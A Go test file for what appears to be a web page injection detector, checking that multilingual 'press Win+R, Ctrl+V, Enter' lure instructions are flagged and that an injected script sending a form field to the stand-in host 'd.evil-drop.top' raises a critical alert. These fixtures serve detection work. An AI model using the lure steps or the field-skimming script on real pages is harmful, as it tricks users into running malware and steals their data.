package compare

import "testing"

// The steps of a lure are known in any language by their keys; a list of shortcuts
// is none.
func TestLureByKeys(t *testing.T) {
	b := ministryBaseline(t)
	for name, tt := range map[string]struct {
		html string
		want bool
	}{
		"Vietnamese": {"<ol><li>Nhấn Windows + R</li><li>Nhấn Ctrl + V</li><li>Nhấn Enter</li></ol>", true},
		"Urdu":       {"<p>تصدیق کے لیے Win+R دبائیں، پھر Ctrl+V اور Enter</p>", true},
		"Greek":      {"<p>Πατήστε ⊞ + R</p><p>Πατήστε CTRL+V και ENTER</p>", true},
		"Mac":        {"<p>Πατήστε ⌘ + Space, Terminal</p><p>⌘ + V, Return</p>", true},
		"shortcuts":  {"<ul><li>Win + R: Run</li><li>Ctrl + C: copy</li><li>Ctrl + V: paste</li></ul>", false},
		"print":      {"<p>Press Ctrl + P to print, Ctrl + V to paste your number.</p>", false},
	} {
		if r := Compare(b, added(tt.html)(t), nil); hasRule(r, "injection.lure") != tt.want {
			t.Errorf("%s: %s", name, describe(r))
		}
	}
}

// A new destination is critical if code that is new reads fields and names it.
func TestDestinationOfAReader(t *testing.T) {
	b := ministryBaseline(t)
	look := added(`<script>var v=document.getElementById("q").value;send("https://d.evil-drop.top/x",v)</script>`)(t)
	look.View.Destinations = []Destination{{"d.evil-drop.top", 90}}
	if r := Compare(b, look, nil); r.Verdict != Alert || r.Findings[0].Rule != "injection.destination" || r.Findings[0].Severity != Critical {
		t.Errorf("new code that reads a field and names the host: %s", describe(r))
	}
	look = ministryLook(t, 4)
	look.View.Destinations = []Destination{{"d.evil-drop.top", 90}}
	if r := Compare(b, look, nil); r.Verdict != Suspicious {
		t.Errorf("nothing suspicious on the page: %s", describe(r))
	}
}
